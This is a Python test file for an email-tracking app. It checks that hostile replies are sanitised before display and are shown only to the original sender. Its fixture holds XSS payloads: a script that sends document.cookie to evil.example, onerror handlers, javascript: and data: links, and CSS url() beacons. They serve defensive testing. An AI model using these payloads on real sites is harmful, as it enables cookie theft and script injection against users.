"""Attacks through incoming mail: a reply is written by anyone, and the app shows it.

A hostile reply (scripts, handlers, remote images, our own pixel in every disguise,
styles that fetch, javascript: and data: links) is received through the same path
as IMAP mail and then read through the JSON API and the email's page: nothing in
it runs, nothing loads unless the sender asks for images, our pixel never loads,
and tracked links lead straight to their destinations.
"""

from __future__ import annotations

import re

import httpx
import pytest
from sqlalchemy import select

from mailbeacon.asgi import MailbeaconApp
from mailbeacon.db import Database
from mailbeacon.kit.clock import utcnow
from mailbeacon.models import Message, RecipientCopy, User
from mailbeacon.runtime import Runtime
from mailbeacon.sync import repository
from mailbeacon.sync.receiving import Arrival
from tests.client import sign_in, use_demo_mailbox
from tests.factories.accounts import create_user, make_demo_sender
from tests.factories.mail import send_mail
from tests.sync.harness import reply_bytes

pytestmark = pytest.mark.asyncio


def hostile_html(pixel: str, click: str) -> str:
    return (
        "<div>Fine by me.</div>"
        "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
        '<img src="https://evil.example/beacon.gif" onerror="alert(1)">'
        '<div style="background:url(https://evil.example/css.gif)">styled</div>'
        '<a href="javascript:alert(2)">js</a> <a href="data:text/html,<script>1</script>">data</a>'
        '<blockquote class="gmail_quote">'
        f'<p>see <a href="{click}">our pricing</a></p>'
        f'<img src="{pixel}" width="1" height="1">'
        # The same pixel as a browser would still fetch it.
        f'<img src="{pixel.replace("http://mb.test", "HTTP://MB.TEST:80")}">'
        f'<img src="{pixel}?utm=1#x">'
        f'<img src="{pixel.replace("/t/o/", "/t/./o/")}">'
        f'<img src="{pixel.replace("http:", "")}">'
        f'<img srcset="{pixel} 1x">'
        '<iframe src="https://evil.example/frame"></iframe>'
        "</blockquote>"
    )


async def _stored_hostile_reply(
    database: Database, runtime: Runtime, user_id: int
) -> tuple[int, str, str]:
    sent = send_mail(database, runtime, user_id, ("carla@example.org",), subject="Pricing")
    with database.sessions() as s:
        message = s.get_one(Message, sent.message_id)
        copy = s.scalars(select(RecipientCopy)).one()
        html = copy.html_body or ""
    pixel = re.search(r'src="(http://mb\.test/t/o/[^"]+)"', html)
    click = re.search(r'href="(http://mb\.test/t/c/[^"]+)"', html)
    assert pixel and click, html
    raw = reply_bytes(
        sender="Carla <carla@example.org>",
        to="sally@example.com",
        subject="Re: Pricing",
        in_reply_to=message.message_id_header,
        text=f"Fine by me.\n\n> see our pricing ({click.group(1)})",
        html=hostile_html(pixel.group(1), click.group(1)),
    )
    with database.unit_of_work() as s:
        stored = runtime.receiver.receive(s, repository.owner(s, user_id), [Arrival(raw, utcnow())])
    assert len(stored) == 1
    return sent.message_id, pixel.group(1), click.group(1)


async def test_a_hostile_reply_runs_nothing_loads_nothing_and_never_fires_our_pixel(
    client: httpx.AsyncClient, app: MailbeaconApp, database: Database
) -> None:
    user_id = create_user(database)
    csrf = await sign_in(client)
    await use_demo_mailbox(client, csrf)
    message_id, pixel, _click = await _stored_hostile_reply(database, app.runtime, user_id)
    token = pixel.rsplit("/", 1)[1].split(".")[0]

    for images in (False, True):
        [reply] = (
            await client.get(
                f"/api/mail/{message_id}/replies", params={"remote_images": str(images).lower()}
            )
        ).json()
        body = reply["body_html"]
        assert "<script" not in body and "onerror" not in body and "<iframe" not in body
        assert "javascript:" not in body and "data:text/html" not in body
        assert "url(" not in body
        assert token not in body and "/t/o/" not in body.lower()
        assert "/t/c/" not in body and 'href="https://example.com/offer"' in body
        assert ("https://evil.example/beacon.gif" in body) is images
        assert (
            "/t/c/" not in reply["full_text"] and "https://example.com/offer" in reply["full_text"]
        )

    page = await client.get(f"/mail/{message_id}")
    assert token not in page.text and "evil.example" not in page.text
    # The frames inherit a policy that lets no remote image in without "Load images".
    assert "img-src data: http://mb.test/static/" in page.headers["content-security-policy"]


async def test_a_reply_is_only_shown_to_the_sender_of_the_email(
    client: httpx.AsyncClient, app: MailbeaconApp, database: Database
) -> None:
    user_id = make_demo_sender(database)
    create_user(database, email="olga@example.com", name="Olga")
    message_id, _, _ = await _stored_hostile_reply(database, app.runtime, user_id)
    await sign_in(client, "olga@example.com")
    assert (await client.get(f"/api/mail/{message_id}/replies")).status_code == 404
    assert (await client.get(f"/mail/{message_id}")).status_code == 404
    with database.sessions() as s:
        olga = s.scalars(select(User).where(User.email == "olga@example.com")).one()
    assert olga.id != user_id
